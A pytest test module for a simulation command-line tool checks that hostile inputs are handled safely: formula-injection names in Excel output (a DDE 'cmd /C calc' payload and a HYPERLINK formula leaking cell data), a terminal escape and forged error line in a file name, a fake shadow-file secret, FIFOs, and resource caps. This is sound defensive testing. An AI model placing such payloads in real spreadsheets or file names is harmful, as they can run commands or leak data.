"""Hostile or careless inputs beyond ``tests/bad_scenarios/``: files shared between analysts must
not attack their reader, a commit is all or nothing, and no input can hang or exhaust the
machine. The inputs that can be static files live in ``tests/adversarial/``; the rest (FIFOs,
devices, huge sparse files, concurrent runs, signals during the commit) are made here."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
import xarray as xr

from simengine.cli.main import main

ROOT = Path(__file__).resolve().parents[2]
ADV = Path(__file__).resolve().parents[1] / "adversarial"
SMALL = ROOT / "tests" / "data" / "small.toml"


def _one_error_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


# -- 1. the workbook holds text, never formulas ------------------------------------------------------
def test_workbook_has_no_formula_cells_for_names_that_look_like_formulas(tmp_path):
    out = tmp_path / "o"
    assert main(["run", str(ADV / "formula_names.toml"), "--draws", "300", "--out", str(out), "--quiet"]) == 0
    wb = openpyxl.load_workbook(out / "summary.xlsx")
    formulas, texts = 0, []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=") and c.data_type != "s"):
                    formulas += 1
                if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    texts.append(c)
    assert formulas == 0
    shown = {c.value for c in texts}
    for name in (
        "=cmd|' /C calc'!A0",
        "=1+1",
        "-2+3",
        '=HYPERLINK("http://example.invalid/?leak="&A1,"København")',
        "+Frederiksberg",
        "@Region Hovedstaden",
        "\tSelvbetjening 2",
    ):
        assert name in shown, name  # kept as the scenario spells it ...
    assert all(c.quotePrefix for c in texts)  # ... with the quote prefix, so an edit does not evaluate it


# -- 6. labels: mathtext, control characters, forged lines -------------------------------------------
def test_names_with_bad_mathtext_and_control_characters_give_a_complete_report(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("SIMENGINE_DEBUG", raising=False)
    out = tmp_path / "o"
    with _no_user_warnings():
        rc = main(["run", str(ADV / "mathtext_and_control_names.toml"), "--draws", "300", "--out", str(out)])
    cap = capsys.readouterr()
    assert rc == 0, cap.err
    for raw in ("\x1b", "\x07", "\x08", "\x7f"):
        assert raw not in cap.out + cap.err, repr(raw)  # shown escaped, never obeyed by the terminal
    assert "\\x1b[2J" in cap.out
    assert "report incomplete" not in cap.err
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "Borger$\\frac{$ervice" in page
    assert (out / "summary.xlsx").exists() and (out / "charts" / "fan_areas.png").exists()
    assert (out / "charts" / "initiatives.png").exists()


class _no_user_warnings:
    """Fail on a UserWarning (e.g. matplotlib's "Glyph 27 missing from font")."""

    def __enter__(self):
        import warnings

        self._cm = warnings.catch_warnings()
        self._cm.__enter__()
        warnings.simplefilter("error", UserWarning)

    def __exit__(self, *exc):
        return self._cm.__exit__(*exc)


def test_a_newline_in_a_file_name_cannot_forge_a_second_error_line(tmp_path, capsys):
    evil = tmp_path / "a\nerror: everything is fine\x1b[2J.toml"
    evil.write_text("[scenario\n", encoding="utf-8")
    assert main(["validate", str(evil), "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert line.startswith("error: ") and "a\\nerror: everything is fine\\x1b[2J.toml" in line


def test_a_nul_character_in_a_name_is_bad_input(capsys):
    assert main(["validate", str(ADV / "nul_in_name.toml"), "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "initiatives[2] (fmk).name: must not contain a NUL character" in line


def test_a_nul_character_in_a_csv_name_is_bad_input(tmp_path, capsys):
    csv = (ROOT / "simengine" / "data" / "municipalities_2011.csv").read_text(encoding="utf-8")
    (tmp_path / "m.csv").write_text(csv.replace("Frederiksberg", "Frederiks\x00berg"), encoding="utf-8")
    sc = tmp_path / "s.toml"
    sc.write_text(
        SMALL.read_text(encoding="utf-8").replace(
            'name = "Small test scenario"', 'name = "x"\nmunicipalities = "m.csv"'
        )
    )
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "line 3: name must not contain a NUL character" in line


# -- 2. a commit is all or nothing; one run per folder; 7./13. only simengine's own files -------------
SLOW_COMMIT = """
import os, signal, sys, time
signal.signal(signal.SIGINT, signal.default_int_handler)  # as in a terminal, even if the suite's launcher ignores it
from pathlib import Path
marker = Path(sys.argv[1])
real = os.replace
def slow(a, b):
    real(a, b)
    if ".simengine-stage-" in str(a):  # a staged file moved into place: widen the window
        marker.touch()
        time.sleep(0.4)
os.replace = slow
from simengine.cli.main import main
sys.exit(main(sys.argv[2:]))
"""


def _created(out: Path) -> set[str]:
    """The run time stamp each file of a run folder carries: one value if the files belong together."""
    with xr.open_dataset(out / "results.nc", engine="h5netcdf") as ds:
        stamps = {str(ds.attrs["created"])}
    stamps.add(json.loads((out / "run.json").read_text())["created"])
    wb = openpyxl.load_workbook(out / "summary.xlsx")
    cells = [str(c.value) for row in wb.worksheets[0].iter_rows() for c in row if c.value is not None]
    stamps |= {c for c in cells if c[:2] == "20" and "T" in c}
    return stamps


def _start_slow_commit(tmp_path: Path, out: Path, seed: int) -> tuple[subprocess.Popen, Path]:
    marker = tmp_path / f"renamed-{seed}"
    proc = subprocess.Popen(
        [
            sys.executable,
            "-c",
            SLOW_COMMIT,
            str(marker),
            "run",
            str(SMALL),
            "--draws",
            "300",
            "--seed",
            str(seed),
            "--out",
            str(out),
            "--quiet",
        ],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    t0 = time.monotonic()
    while not marker.exists():
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() - t0 < 240, "the run never reached its commit"
        time.sleep(0.05)
    return proc, marker


@pytest.fixture(scope="module")
def _earlier_run_once(tmp_path_factory):
    out = tmp_path_factory.mktemp("earlier") / "out"
    assert main(["run", str(SMALL), "--draws", "300", "--seed", "1", "--out", str(out), "--quiet"]) == 0
    assert len(_created(out)) == 1
    return out


@pytest.fixture
def earlier_run(_earlier_run_once, tmp_path):
    """A folder holding a complete earlier run: a copy, times of modification kept (the file list that
    simengine writes records them), of one run made once for the module."""
    import shutil

    out = tmp_path / "out"
    shutil.copytree(_earlier_run_once, out, copy_function=shutil.copy2)
    assert len(_created(out)) == 1
    return out


@pytest.mark.parametrize("sig,code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_signal_during_the_commit_never_leaves_a_mix(earlier_run, tmp_path, sig, code):
    out = earlier_run
    before = _created(out)
    proc, _ = _start_slow_commit(tmp_path, out, seed=2)
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == code, err
    assert "Traceback" not in err and "de nye resultater var færdige og er gemt" in err  # --lang da
    after = _created(out)
    assert len(after) == 1 and after != before  # all of the new run, none of the old
    assert json.loads((out / "run.json").read_text())["seed"] == 2
    assert not [p.name for p in out.iterdir() if p.name.startswith(".simengine-stage-") or "commit" in p.name]


def test_a_run_killed_during_the_commit_is_completed_before_anyone_reads_the_folder(earlier_run, tmp_path, capsys):
    from simengine.outputs import folder as output

    out = earlier_run
    before = _created(out)
    proc, _ = _start_slow_commit(tmp_path, out, seed=3)
    proc.kill()
    proc.wait()
    assert (out / output.JOURNAL_NAME).exists()  # killed half way: old and new files side by side now ...
    assert main(["report", str(out / "results.nc"), "--quiet"]) == 0  # ... until the next reader finishes it
    after = _created(out)
    assert len(after) == 1 and after != before
    assert json.loads((out / "run.json").read_text())["seed"] == 3
    assert not (out / output.JOURNAL_NAME).exists()
    assert not [p for p in out.iterdir() if p.name.startswith(".simengine-stage-")]


def test_a_second_run_into_a_locked_folder_is_refused_with_one_line(tmp_path, capsys):
    out = tmp_path / "o"
    out.mkdir()
    (out / "keep.txt").write_text("mine")
    code = (
        "import fcntl, os, sys, time\n"
        f"fd = os.open({str(out / '.simengine.lock')!r}, os.O_CREAT | os.O_RDWR)\n"
        "fcntl.flock(fd, fcntl.LOCK_EX)\nprint('locked', flush=True)\ntime.sleep(120)"
    )
    holder = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        assert main(["run", str(SMALL), "--draws", "100", "--out", str(out), "--quiet", "--lang", "en"]) == 1
        line = _one_error_line(capsys.readouterr().err)
        assert "another simengine process is writing to this folder" in line and str(out) in line
        assert main(["run", str(SMALL), "--draws", "100", "--out", str(out), "--quiet"]) == 1
        line = _one_error_line(capsys.readouterr().err)
        assert (
            line
            == f"fejl: {out}: en anden simengine-proces skriver i denne mappe; vent, til den er færdig, eller vælg en anden --out"
        )
        assert sorted(p.name for p in out.iterdir()) == [".simengine.lock", "keep.txt"]  # nothing written
    finally:
        holder.kill()
        holder.wait()
    assert main(["run", str(SMALL), "--draws", "100", "--out", str(out), "--quiet", "--no-report"]) == 0
    assert not (out / ".simengine.lock").exists()  # the lock goes with the run that held it


def test_no_report_removes_only_report_files_simengine_wrote(tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    (out / "charts").mkdir()
    mine = {
        out / "summary.xlsx": b"my own workbook",
        out / "report.html": b"<p>my notes</p>",
        out / "charts" / "fan_national.png": b"my chart",
    }
    for p, data in mine.items():
        p.write_bytes(data)
    assert main(["run", str(SMALL), "--draws", "200", "--out", str(out), "--quiet", "--no-report"]) == 0
    assert all(p.read_bytes() == data for p, data in mine.items())  # not simengine's: left alone
    # a report simengine wrote is removed by a later --no-report run, unless someone replaced it
    assert main(["run", str(SMALL), "--draws", "200", "--out", str(out), "--quiet"]) == 0
    (out / "summary.xlsx").write_bytes(b"edited by hand")
    assert main(["run", str(SMALL), "--draws", "200", "--out", str(out), "--quiet", "--no-report"]) == 0
    assert not (out / "report.html").exists() and not (out / "charts").exists()
    assert (out / "summary.xlsx").read_bytes() == b"edited by hand"


def test_an_empty_output_folder_name_is_refused(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert main(["run", str(SMALL), "--draws", "100", "--out", "", "--quiet"]) == 2
    assert "--out: skal angive en mappe" in capsys.readouterr().err  # --lang da, the default
    assert list(tmp_path.iterdir()) == []


def test_temporaries_of_killed_runs_are_removed_by_the_next_run(tmp_path):
    out = tmp_path / "o"
    (out / ".simengine-stage-abc123xy").mkdir(parents=True)
    (out / ".simengine-stage-abc123xy" / "results.nc").write_bytes(b"\0" * 1000)
    (out / ".results.nc.k2j4h5g6.tmp").write_bytes(b"\0" * 1000)  # the name earlier versions used
    (out / "charts").mkdir()
    (out / "charts" / ".fan_areas.png.a1b2c3d4.tmp").write_bytes(b"\0")
    (out / ".my-notes.tmp").write_text("not simengine's")
    assert main(["run", str(SMALL), "--draws", "100", "--out", str(out), "--quiet", "--no-report"]) == 0
    left = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
    assert left == [".my-notes.tmp", ".simengine-files.json", "charts", "results.nc", "run.json", "summary.parquet"]


# -- 3. bounded reads: regular files only, size checked before reading --------------------------------
def _cli(*args: str, stdin=subprocess.DEVNULL, timeout: float = 120) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "SIMENGINE_DEBUG"}
    return subprocess.run(
        [sys.executable, "-m", "simengine", *args],
        cwd=ROOT,
        stdin=stdin,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        check=False,
    )


@pytest.fixture
def fifo(tmp_path):
    p = tmp_path / "pipe.toml"
    os.mkfifo(p)
    return p


@pytest.mark.parametrize("command", ["validate", "check", "compare"])
@pytest.mark.parametrize("target", ["fifo", "/dev/zero", "/dev/stdin"])
def test_devices_and_fifos_are_refused_without_reading(command, target, fifo):
    path = str(fifo) if target == "fifo" else target
    args = [command, path, "--lang", "en"] if command != "compare" else [command, str(SMALL), path, "--lang", "en"]
    with open("/dev/zero", "rb") as zero:  # /dev/stdin reads from /dev/zero: endless, if anyone reads it
        r = _cli(*args, stdin=zero, timeout=60)
    assert r.returncode == 2, r.stderr
    line = _one_error_line(r.stderr)
    assert path in line and ("named pipe" in line or "a device" in line), line


def test_a_huge_sparse_csv_is_refused_before_it_is_read(tmp_path, capsys):
    csv = tmp_path / "huge.csv"
    with open(csv, "wb") as fh:
        fh.truncate(3 * 2**30)  # 3 GB of nothing on disk; reading it would take 3 GB of memory
    sc = tmp_path / "s.toml"
    sc.write_text(
        SMALL.read_text(encoding="utf-8").replace(
            'name = "Small test scenario"', 'name = "x"\nmunicipalities = "huge.csv"'
        )
    )
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "huge.csv: file is 3,221,225,472 bytes; a municipalities CSV may be at most 50,000,000 bytes" in line
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # kB: it was not read


def test_report_does_not_read_a_scenario_file_that_is_a_fifo_or_device(tmp_path, fifo):
    out = tmp_path / "o"
    assert main(["run", str(SMALL), "--draws", "200", "--out", str(out), "--quiet", "--no-report"]) == 0
    for target in (str(fifo), "/dev/zero"):
        r = _cli("report", str(out / "results.nc"), "--scenario", target, "--quiet", timeout=240)
        assert r.returncode in (0, 2), r.stderr
        assert "Traceback" not in r.stderr
        assert target in r.stderr


def test_a_symlink_loop_is_named_as_such(tmp_path, capsys):
    (tmp_path / "a.toml").symlink_to(tmp_path / "b.toml")
    (tmp_path / "b.toml").symlink_to(tmp_path / "a.toml")
    assert main(["validate", str(tmp_path / "a.toml")]) == 2
    assert "en løkke af symbolske links" in _one_error_line(capsys.readouterr().err)  # --lang da, the default
    assert main(["validate", str(tmp_path / "a.toml"), "--lang", "en"]) == 2
    assert "a loop of symbolic links" in _one_error_line(capsys.readouterr().err)


def test_a_file_that_is_not_a_csv_is_not_echoed(tmp_path, capsys):
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$SECRETHASH$abcdef:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n")
    sc = tmp_path / "s.toml"
    sc.write_text(
        SMALL.read_text(encoding="utf-8").replace(
            'name = "Small test scenario"', f'name = "x"\nmunicipalities = "{secret}"'
        )
    )
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "not a municipalities CSV" in line and "SECRETHASH" not in line and "root:" not in line


# -- 4. check reproduces every run option and validates the manifest ----------------------------------
@pytest.fixture(scope="module")
def cut_run(tmp_path_factory):
    out = tmp_path_factory.mktemp("cut") / "o"
    assert (
        main(
            ["run", str(SMALL), "--draws", "300", "--out", str(out), "--quiet", "--no-report", "--cut-threshold", "5e7"]
        )
        == 0
    )
    return out


def test_check_reproduces_a_run_with_cut_threshold(cut_run, capsys):
    assert json.loads((cut_run / "run.json").read_text())["cut_threshold"] == 5e7
    assert main(["check", str(cut_run / "run.json"), "--threads", "1"]) == 0
    assert "identisk" in capsys.readouterr().out  # --lang da, the default


@pytest.mark.parametrize(
    "key,value,fragment",
    [
        ("draws", "many", "draws: must be a whole number in [1, 1,000,000,000], got 'many'"),
        ("draws", -5, "draws: must be a whole number"),
        ("draws", 10**12, "draws: must be a whole number"),
        ("draws", True, "draws: must be a whole number"),
        ("seed", 1.5, "seed: must be a whole number in [0, 2^63)"),
        ("scenario_file", 42, "scenario_file: must be the path of the scenario file, got 42"),
        ("scenario_path_absolute", ["a"], "scenario_path_absolute: must be the path"),
        ("versions", ["1.0"], "versions: must be a table of versions"),
        ("cut_threshold", "lots", "cut_threshold: must be a finite amount"),
        ("scenario_sha256", 7, "scenario_sha256: must be a sha256"),
        ("keep_draws", 0, "keep_draws: must be a whole number"),
    ],
)
def test_a_malformed_manifest_gives_one_line(cut_run, tmp_path, capsys, key, value, fragment):
    m = json.loads((cut_run / "run.json").read_text())
    m[key] = value
    bad = tmp_path / "run.json"
    bad.write_text(json.dumps(m))
    assert main(["check", str(bad), "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert line.startswith(f"error: {bad}: ") and fragment in line, line


def test_a_manifest_that_is_not_an_object(tmp_path, capsys):
    bad = tmp_path / "run.json"
    for text in ("[1, 2]", "null", '"x"', "[" * 100_000):
        bad.write_text(text)
        assert main(["check", str(bad), "--lang", "en"]) == 2
        assert "not a run manifest" in _one_error_line(capsys.readouterr().err)


# -- 5. caps checked up front, suggestions in bounded time -------------------------------------------
@pytest.mark.parametrize(
    "argv",
    [
        ["run", str(SMALL), "--draws", "1000000000000"],
        ["run", str(SMALL), "--precision", "0.01", "--max-draws", "1000000000000"],
        ["compare", str(SMALL), str(SMALL), "--draws", "1000000000000"],
        ["sweep", str(SMALL), "--set", "regimes.retention_share=0.25,0.5", "--draws", "1000000000000"],
    ],
)
def test_draws_beyond_the_cap_are_refused_from_the_command_line(argv, tmp_path, capsys):
    assert main(argv + ["--out", str(tmp_path / "o"), "--quiet"]) == 2
    assert "må højst være 1.000.000.000" in capsys.readouterr().err  # --lang da: Danish thousands separators
    assert not (tmp_path / "o").exists()


def test_draws_beyond_the_cap_are_refused_by_the_api():
    from simengine.errors import ConfigError
    from simengine.scenario import schema as scenario

    sc = scenario.load(SMALL)
    with pytest.raises(ConfigError, match="at most|must be in"):
        sc.with_run_options(draws=10**12)


def _initiatives_toml(n: int, area: str = "a") -> str:
    return "".join(
        f'[[initiatives]]\nid = "i{k}"\nname = "I {k}"\narea = "{area}"\ngain = 1e6\nstart = 2012\n\n' for k in range(n)
    )


HEAD = """[scenario]
name = "many"
start_year = 2011
horizon = 2016
target = 1e6
target_year = 2014

[simulation]
draws = 100

[areas.a]
target = 1e6

"""


def test_too_many_initiatives_are_refused_before_they_are_checked(tmp_path, capsys):
    sc = tmp_path / "many.toml"
    sc.write_text(HEAD + _initiatives_toml(5_001))
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    assert "initiatives: at most 5,000 initiatives, got 5,001" in _one_error_line(capsys.readouterr().err)


def test_too_many_areas_are_refused(tmp_path, capsys):
    sc = tmp_path / "areas.toml"
    sc.write_text(HEAD + "".join(f"[areas.x{k}]\ntarget = 1\n" for k in range(1_001)) + _initiatives_toml(1))
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    assert "areas: at most 1,000 areas, got 1,002" in capsys.readouterr().err.splitlines()[0]


def test_too_many_municipalities_are_refused(tmp_path, capsys):
    (tmp_path / "m.csv").write_text(
        "code,name,region,population\n" + "".join(f"{k},M{k},R,100\n" for k in range(1, 10_002))
    )
    sc = tmp_path / "s.toml"
    sc.write_text(HEAD.replace('name = "many"', 'name = "many"\nmunicipalities = "m.csv"') + _initiatives_toml(1))
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    assert "at most 10,000 municipalities, got 10,001" in _one_error_line(capsys.readouterr().err)


def test_too_many_correlated_inputs_are_refused(tmp_path, capsys):
    sc = tmp_path / "corr.toml"
    sc.write_text(
        HEAD
        + '[defaults]\ndelay = { dist = "uniform", min = 0, max = 1 }\n\n'
        + _initiatives_toml(501)
        + '[[correlations]]\na = "*.delay"\nb = "*.delay"\nrho = 0.5\n'
    )
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    assert "at most 500 inputs may be correlated" in _one_error_line(capsys.readouterr().err)


def test_thousands_of_unknown_removals_answer_in_bounded_time(tmp_path, capsys):
    (tmp_path / "base.toml").write_text(HEAD + _initiatives_toml(3_000))
    child = tmp_path / "child.toml"
    child.write_text(
        'extends = "base.toml"\nremove_initiatives = [' + ", ".join(f'"x{k}-gone"' for k in range(40_000)) + "]\n"
    )
    assert main(["validate", str(child), "--lang", "en"]) == 2
    err = capsys.readouterr().err
    assert err.count("remove_initiatives: no initiative") == 40_000
    assert err.count("did you mean") <= 20


def test_a_municipality_code_beyond_int64_is_bad_input(tmp_path, capsys):
    (tmp_path / "m.csv").write_text("code,name,region,population\n99999999999999999999,Big,R,100\n")
    sc = tmp_path / "s.toml"
    sc.write_text(HEAD.replace('name = "many"', 'name = "x"\nmunicipalities = "m.csv"') + _initiatives_toml(1))
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    assert "line 2: code must be a positive integer" in _one_error_line(capsys.readouterr().err)


def test_a_non_numeric_further_csv_column_is_bad_input(tmp_path, capsys):
    (tmp_path / "m.csv").write_text("code,name,region,population,staff\n101,A,R,100,12\n147,B,R,100,many\n")
    sc = tmp_path / "s.toml"
    sc.write_text(HEAD.replace('name = "many"', 'name = "x"\nmunicipalities = "m.csv"') + _initiatives_toml(1))
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    assert "line 3: column staff: further columns must be numeric" in _one_error_line(capsys.readouterr().err)


# -- 8./9. results must be finite; what cannot be, is refused by validate --------------------------
@pytest.mark.parametrize(
    "old,new,named",
    [
        ("target = 300e6", "target = 1e308", "scenario.target: must be in [0, 1e+15], got 1e+308"),
        ("gain = 120e6", "gain = 1e308", "initiatives[0] (osb-1).gain: must be in [0, 1e+15], got 1e+308"),
        ("investment = 20e6", "investment = 1e308", "cost.investment: must be in [0, 1e+15], got 1e+308"),
        (
            "cost_per_fte = 450_000",
            "cost_per_fte = 5e-324",
            "scenario.cost_per_fte: must be in [1, 1e+15], got 4.94066e-324",
        ),
    ],
)
def test_amounts_that_would_overflow_are_refused_by_validate(tmp_path, capsys, old, new, named):
    sc = tmp_path / "s.toml"
    text = SMALL.read_text(encoding="utf-8")
    assert old in text
    sc.write_text(text.replace(old, new, 1), encoding="utf-8")
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    assert named in _one_error_line(capsys.readouterr().err)


@pytest.mark.parametrize(
    "old,new,named",
    [
        (
            'estimate_factor = { dist = "lognormal", median = 0.85, p90 = 1.15 }',
            'estimate_factor = { dist = "lognormal", mu = 700, sigma = 1 }',
            "initiatives[0] (osb-1).estimate_factor",
        ),
        (
            'adoption = { dist = "triangular", min = 0.7, mode = 0.85, max = 1.0 }',
            'adoption = { dist = "uniform", min = 0, max = 1e308 }',
            "initiatives[1] (osb-2).adoption",
        ),
    ],
)
def test_priors_that_overflow_are_named_and_nothing_is_written(tmp_path, old, new, named):
    sc = tmp_path / "s.toml"
    text = SMALL.read_text(encoding="utf-8")
    assert old in text
    sc.write_text(text.replace(old, new, 1), encoding="utf-8")
    r = _cli(
        "run",
        str(sc),
        "--draws",
        "300",
        "--out",
        str(tmp_path / "o"),
        "--quiet",
        "--no-report",
        "--lang",
        "en",
        timeout=300,
    )
    assert r.returncode == 2, r.stderr
    line = _one_error_line(r.stderr)  # also: no numpy RuntimeWarning
    assert ("the results overflow" in line or "business-case size" in line) and named in line, line
    assert not (tmp_path / "o" / "results.nc").exists()


def test_the_finiteness_check_names_the_inputs_to_blame():
    import dataclasses

    from simengine.analysis import finite
    from simengine.errors import ConfigError
    from simengine.scenario import schema as scenario

    sc = scenario.load(SMALL)
    big = dataclasses.replace(
        sc, initiatives=(dataclasses.replace(sc.initiatives[0], gain=1e300),) + sc.initiatives[1:]
    )
    ds = xr.Dataset({"benefit": (("draw", "year"), [[1.0, float("inf")]]), "target": ("year", [1.0, 2.0])})
    with pytest.raises(ConfigError, match=r"inf or NaN in benefit\).*initiatives\[0\] \(osb-1\)\.gain = 1e\+300"):
        finite.check(ds, big)
    finite.check(ds.assign(benefit=ds["benefit"].fillna(0).clip(max=5.0)), big)  # finite: nothing to say


def test_report_of_an_all_nan_results_file_is_bad_input(tmp_path, capsys):
    out = tmp_path / "o"
    assert main(["run", str(SMALL), "--draws", "200", "--out", str(out), "--quiet", "--no-report"]) == 0
    ds = xr.open_dataset(out / "results.nc", engine="h5netcdf").load()
    for k, v in ds.data_vars.items():
        if v.dtype.kind == "f":
            ds[k] = v * float("nan")
    bad = tmp_path / "nan" / "results.nc"
    bad.parent.mkdir()
    ds.to_netcdf(bad, engine="h5netcdf")
    assert main(["report", str(bad), "--quiet", "--lang", "en"]) == 2
    assert "not a usable results file: inf or NaN in benefit" in _one_error_line(capsys.readouterr().err)
    assert sorted(p.name for p in bad.parent.iterdir()) == ["results.nc"]


# -- 10./14. cluster options ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "args,fragment",
    [
        (["--scheduler", "bogus", "--lang", "en"], "the address needs a port"),
        (["--scheduler", "tcp://host:99999", "--lang", "en"], "the address needs a port"),
        (["--scheduler", "tcp://host:99999"], "adressen skal have et portnummer (1-65535)"),
        (["--scheduler", "tcp://127.0.0.1:9", "--connect-timeout", "1e308"], "højst 3.600 sekunder"),
    ],
)
def test_bad_scheduler_options_give_one_line_and_no_traceback(tmp_path, args, fragment):
    pytest.importorskip("distributed")
    r = _cli("run", str(SMALL), "--draws", "100", "--out", str(tmp_path / "o"), "--quiet", "--no-report", *args)
    assert r.returncode == 2, r.stderr
    assert "Traceback" not in r.stderr and fragment in r.stderr
    assert (
        len(
            [ln for ln in r.stderr.splitlines() if ln.strip() and not ln.startswith("usage") and not ln.startswith(" ")]
        )
        == 1
    ), r.stderr


# -- 14. smaller ---------------------------------------------------------------------------------------
def _small_with(tmp_path: Path, extra: str) -> Path:
    sc = tmp_path / "s.toml"
    sc.write_text(SMALL.read_text(encoding="utf-8").replace("[observed]", extra + "\n[observed]"), encoding="utf-8")
    return sc


def test_a_correlation_of_an_input_with_itself_is_refused(tmp_path, capsys):
    sc = _small_with(
        tmp_path, '[[correlations]]\na = "osb-1.estimate_factor"\nb = "osb-1.estimate_factor"\nrho = 0.5\n'
    )
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    assert "correlations[0]: correlates osb-1.estimate_factor with itself" in _one_error_line(capsys.readouterr().err)


def test_a_value_just_outside_its_range_is_shown_exactly(tmp_path, capsys):
    sc = _small_with(tmp_path, '[[correlations]]\na = "osb-1.estimate_factor"\nb = "fmk.delay"\nrho = 1.0000001\n')
    assert main(["validate", str(sc), "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "correlations[0].rho: must be in [-1, 1], got 1.0000001" in line


# -- 11. the memory guard's advice names what would help ----------------------------------------------
def test_memory_advice_names_threads_when_fewer_kept_draws_cannot_help(tmp_path, monkeypatch, capsys):
    from simengine.core import engine
    from simengine.model.plan import compile_plan
    from simengine.scenario import schema as scenario

    monkeypatch.setattr(engine, "check_threads", lambda t: t or 64)
    plan = compile_plan(scenario.load(SMALL).with_run_options(draws=1000))
    one_thread = engine.estimate_memory(plan, 1000, 1, 2000)
    assert engine.estimate_memory(plan, 1000, 64, 1) > 2 * one_thread  # the threads' histograms dominate
    monkeypatch.setattr(engine, "physical_memory", lambda: int(2 * one_thread / 0.8))
    argv = ["run", str(SMALL), "--draws", "1000", "--threads", "64", "--out", str(tmp_path / "o"), "--quiet"]
    assert main([*argv, "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "--threads" in line and "keep_draws" not in line
    n = int(line.split("use --threads ")[1].split()[0])
    assert engine.estimate_memory(plan, 1000, n, 2000) <= 0.8 * int(2 * one_thread / 0.8)

    monkeypatch.setattr(engine, "physical_memory", lambda: int(one_thread / 2))  # nothing helps
    assert main([*argv, "--lang", "en"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "even with keep_draws = 1, one thread and --no-report" in line


# -- 10. a real Dask scheduler and two workers, as separate processes on loopback ---------------------
def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _busy(client) -> list[str]:
    """Addresses of workers that are running a task now."""
    return [w for w, keys in client.processing().items() if keys]


def test_real_scheduler_with_a_worker_and_then_the_scheduler_killed_mid_run(tmp_path, capsys):
    pytest.importorskip("distributed")
    from distributed import Client

    dask = Path(sys.executable).parent / "dask"
    if not dask.exists():
        pytest.skip("the dask command is not installed")
    port = _free_port()
    addr = f"tcp://127.0.0.1:{port}"
    logs = open(tmp_path / "cluster.log", "w")  # noqa: SIM115 - the cluster's processes write to it until the end
    procs = [
        subprocess.Popen(
            [str(dask), "scheduler", "--host", "127.0.0.1", "--port", str(port), "--dashboard-address", "127.0.0.1:0"],
            stdout=logs,
            stderr=logs,
        )
    ]
    try:
        client = Client(addr, timeout="60s", set_as_default=False)
        for _ in range(2):
            p = subprocess.Popen(
                [str(dask), "worker", addr, "--nthreads", "1", "--no-nanny", "--host", "127.0.0.1", "--no-dashboard"],
                stdout=logs,
                stderr=logs,
            )
            procs.append(p)
        client.wait_for_workers(2, timeout=120)
        pids = client.run(os.getpid)  # worker address -> pid
        argv = [
            "run",
            str(SMALL),
            "--draws",
            "300000",
            "--seed",
            "5",
            "--quiet",
            "--no-report",
            "--scheduler",
            addr,
            "--block-draws",
            "15000",
        ]

        # a worker killed mid-run: its blocks run again elsewhere, the results are the same bit for bit
        run = subprocess.Popen(
            [sys.executable, "-m", "simengine", *argv, "--out", str(tmp_path / "dask")],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        t0 = time.monotonic()
        while not _busy(client):
            assert run.poll() is None, run.communicate()
            assert time.monotonic() - t0 < 240
            time.sleep(0.05)
        victim = _busy(client)[0]
        os.kill(pids[victim], signal.SIGKILL)
        _, err = run.communicate(timeout=600)
        assert run.returncode == 0, err
        assert "Traceback" not in err
        assert main([*argv[:-4], "--out", str(tmp_path / "local")]) == 0
        dig = [json.loads((tmp_path / d / "run.json").read_text())["results_digest"] for d in ("dask", "local")]
        assert dig[0] == dig[1]

        # the scheduler killed mid-run: exit 1 with one line, nothing written
        run = subprocess.Popen(
            [sys.executable, "-m", "simengine", *argv, "--out", str(tmp_path / "lost")],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        t0 = time.monotonic()
        while not _busy(client):
            assert run.poll() is None, run.communicate()
            assert time.monotonic() - t0 < 240
            time.sleep(0.05)
        client.close()
        procs[0].kill()
